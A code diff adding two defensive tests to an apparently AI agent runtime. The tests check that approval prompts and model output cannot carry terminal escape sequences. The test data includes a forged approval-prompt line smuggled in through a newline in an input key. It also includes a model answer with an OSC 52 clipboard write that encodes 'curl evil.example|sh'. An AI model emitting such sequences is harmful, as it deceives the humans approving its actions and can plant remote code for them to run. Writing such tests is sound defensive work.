@@ -287,3 +287,57 @@ def test_git_reads_do_not_run_a_git_planted_on_the_path(tmp_path: Path, monkeypa
             out = r.executor.dispatch(Call(op, {}), _ctx())
             assert out.ok, out
             assert not (ws / "planted_out").exists(), op
+
+
+def test_an_input_key_cannot_forge_a_line_of_the_approval_prompt() -> None:
+    # A catalog operation whose schema admits any key: the key was printed as it was,
+    # so a newline in it added a line that looked like another (harmless) action.
+    forged = "x\n  2. [low] read\n       path: 'README.md'\x1b[2K"
+    req = ApprovalRequest(
+        kind="batch",
+        digest="sha256:" + "0" * 64,
+        actions=({"op": "plugin.op\x1b]52;c;AAAA\x07", "input": {forged: 1, "path": "a"}},),
+        risks=("high",),
+        reason="policy",
+    )
+    text = req.describe()
+    assert "path: 'a'" in text  # positive control: the real field is shown
+    assert len(text.splitlines()) == 4  # the header, one action, its two fields
+    assert "\x1b" not in text and "\x07" not in text
+    assert "\\x1b" in text and "\\n" in text  # shown, as escapes
+
+
+def test_flux_run_prints_no_control_sequence_from_the_model(tmp_path: Path) -> None:
+    import json
+
+    from tests.flux_runtime._flux import flux
+
+    script = tmp_path / "m.jsonl"
+    answer = "all good\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b[2J\nsecond line\tend"
+    script.write_text(
+        "\n".join(
+            json.dumps(x) for x in ({"type": "intent", "intent": "inspect"}, {"type": "done"})
+        )
+        + "\n"
+        + json.dumps({"type": "answer", "text": answer})
+        + "\n"
+    )
+    (tmp_path / "ws").mkdir()
+    proc = flux(
+        "run",
+        "--model",
+        f"scripted:{script}",
+        "--workspace",
+        str(tmp_path / "ws"),
+        "--state",
+        str(tmp_path / "st" / "s.db"),
+        "--approve",
+        "deny",
+        "hello",
+        XDG_STATE_HOME=str(tmp_path / "state"),
+    )
+    out = proc.stdout.decode()
+    assert proc.returncode == 0, proc.stderr
+    assert "all good" in out and "second line\tend" in out  # the answer was printed
+    assert "\x1b" not in out and "\x07" not in out
+    assert "\\x1b]52;c;" in out
